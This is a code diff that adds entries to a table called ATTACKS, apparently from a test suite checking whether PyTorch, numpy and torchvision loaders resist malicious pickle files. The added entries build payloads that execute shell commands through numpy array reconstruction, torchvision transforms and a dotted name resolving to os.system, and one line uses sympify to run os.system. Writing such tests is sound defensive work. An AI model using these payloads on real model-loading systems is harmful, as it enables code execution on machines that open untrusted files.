@@ -251,6 +251,26 @@ ATTACKS: dict[str, Callable[[Path], bytes]] = {
     "torch.serialization.load": lambda c: call(options("torch.serialization:load", weights_only=b"\x89"), inner(c)),
     "torch.storage": lambda c: call(name("torch.storage:_load_from_bytes"), data(archive(harm(c)))),
     "numpy.load": lambda c: call(name("numpy:load"), numpy_file(c), b"N", b"\x88"),
+    "an array that is a file": lambda c: call(
+        call(name("operator:methodcaller"), text("tofile"), text(str(c))), call(name("numpy:zeros"), b"K\x01")
+    ),
+    "an array made by a function": lambda c: call(
+        name("numpy:fromfunction"), function(c), several(b"K\x01")
+    ),
+    "state of an array": lambda c: build(
+        call(name("numpy._core.multiarray:_reconstruct"), name("numpy:ndarray"), several(b"K\0"), data(b"b")),
+        several(b"K\x01", several(b"K\x01"), call(name("numpy:dtype"), text("O")), b"\x89",
+                listed(call(SYSTEM, shell(c)))),
+    ),
+    "state of transforms": lambda c: build(
+        new(name("torchvision.transforms.transforms:Compose")), mapping(transforms=listed(call(SYSTEM, shell(c))))
+    ),
+    "transforms that are called": lambda c: call(
+        call(name("torchvision.transforms.transforms:Lambda"), function(c)), b"N"
+    ),
+    "a dotted name of torchvision": lambda c: (
+        b"\x80\x04" + call(name("torchvision.transforms.functional:torch.os.system"), shell(c))
+    ),
     "torch.hub": lambda c: call(options("torch.hub:load", source=text("local")), hub(c), text("entry")),
     # what PyTorch and its own dependencies evaluate
     "sympy": lambda c: call(name("sympy:sympify"), text(f"__import__('os').system('touch {c}')")),
